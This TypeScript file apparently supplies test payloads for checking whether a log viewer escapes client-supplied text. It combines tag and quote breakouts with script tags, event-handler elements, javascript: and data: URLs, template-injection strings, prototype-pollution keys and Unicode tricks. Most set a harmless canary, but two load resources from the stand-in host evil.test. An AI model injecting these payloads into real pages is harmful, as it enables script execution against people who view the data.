/** Ways out of where a text stands. */
const exits = ['', '">', "'>", '</script>', '</title>', '</style>', '-->', ']]>', '</svg>', '`}'];

/** What runs as soon as it is an element. Each would set `window.owned` or load something. */
const runners = [
  '<script>window.owned=1</script>',
  '<img src=x onerror=window.owned=1>',
  '<svg onload=window.owned=1>',
  '<svg><animate onbegin=window.owned=1 attributeName=x dur=1s>',
  '<details open ontoggle=window.owned=1>',
  '<input autofocus onfocus=window.owned=1>',
  '<iframe srcdoc="<script>parent.owned=1</script>">',
  '<video><source onerror=window.owned=1>',
  '<body onpageshow=window.owned=1>',
  '<math><mtext><script>window.owned=1</script>',
  '<object data="javascript:window.owned=1">',
  '<link rel=stylesheet href=//evil.test/x.css>',
];

/** What is none but may become one: in an address, a handler, a template, a style. */
const others = [
  'javascript:window.owned=1',
  'data:text/html,<script>window.owned=1</script>',
  "' onmouseover='window.owned=1",
  '" style="background:url(//evil.test/x)',
  '{{constructor.constructor("window.owned=1")()}}',
  '${window.owned=1}',
  '&lt;script&gt;window.owned=1&lt;/script&gt;',
  '\u003cscript\u003ewindow.owned=1\u003c/script\u003e',
  '__proto__',
  'constructor',
  '[object Object]',
  '\u202ereversed\u202c',
  'a\u0000b',
  '\u2028line',
];

/** Texts that a client may put into a log to act in the page of whoever looks at it: more than a hundred. */
export const pagePayloads: readonly string[] = [
  ...exits.flatMap((exit) => runners.map((runner) => exit + runner)),
  ...others,
];
